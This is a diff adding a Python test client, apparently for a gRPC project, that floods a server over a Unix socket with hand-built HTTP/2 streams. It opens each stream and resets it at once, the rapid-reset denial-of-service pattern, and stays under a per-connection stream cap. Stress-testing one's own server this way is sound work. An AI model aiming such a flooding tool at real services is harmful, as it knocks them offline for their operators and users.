@@ -1,0 +1,85 @@
+"""A client that floods a gRPC server with HTTP/2 streams it opens and resets
+at once, never reading an answer: `python -m tests.stream_flood unix:PATH
+SECONDS`. Each stream is a Play call the server has to take and find gone."""
+
+from __future__ import annotations
+
+import socket
+import sys
+import threading
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
+END_HEADERS = 4
+CANCEL = (8).to_bytes(4, "big")
+BATCH = 20  # streams opened per write
+KEPT_OPEN = 800  # older streams are reset, so a connection stays under any cap of 1,000
+
+
+def _literal(text: bytes) -> bytes:
+    return bytes([len(text)]) + text
+
+
+# HPACK: :method POST, :scheme http (indexed), then :path, :authority, content-type
+# and te as literals without indexing.
+PLAY_HEADERS = (
+    b"\x83\x86"
+    + b"\x04"
+    + _literal(b"/sheepfold.v1.Arena/Play")
+    + b"\x01"
+    + _literal(b"localhost")
+    + b"\x00"
+    + _literal(b"content-type")
+    + _literal(b"application/grpc")
+    + b"\x00"
+    + _literal(b"te")
+    + _literal(b"trailers")
+)
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return (
+        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+    )
+
+
+def _drain(connection: socket.socket) -> None:
+    try:
+        while connection.recv(65536):
+            pass
+    except OSError:
+        pass
+
+
+def flood(path: str, seconds: float) -> None:
+    """Connect to the Unix socket at `path` again and again until `seconds` pass."""
+    stop_at = time.monotonic() + seconds
+    while time.monotonic() < stop_at:
+        connection = socket.socket(socket.AF_UNIX)
+        try:
+            connection.connect(path)
+            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
+        except OSError:
+            connection.close()
+            time.sleep(0.01)
+            continue
+        threading.Thread(target=_drain, args=(connection,), daemon=True).start()
+        stream = 1
+        try:
+            while stream < 200_000 and time.monotonic() < stop_at:
+                ids = range(stream, stream + 2 * BATCH, 2)
+                opened = (frame(HEADERS, END_HEADERS, i, PLAY_HEADERS) for i in ids)
+                connection.sendall(b"".join(opened))
+                stream += 2 * BATCH
+                old = stream - KEPT_OPEN
+                if old > 0:
+                    ids = range(old, old + 2 * BATCH, 2)
+                    connection.sendall(b"".join(frame(RST_STREAM, 0, i, CANCEL) for i in ids))
+        except OSError:
+            pass
+        connection.close()
+
+
+if __name__ == "__main__":
+    flood(sys.argv[1].removeprefix("unix:"), float(sys.argv[2]))
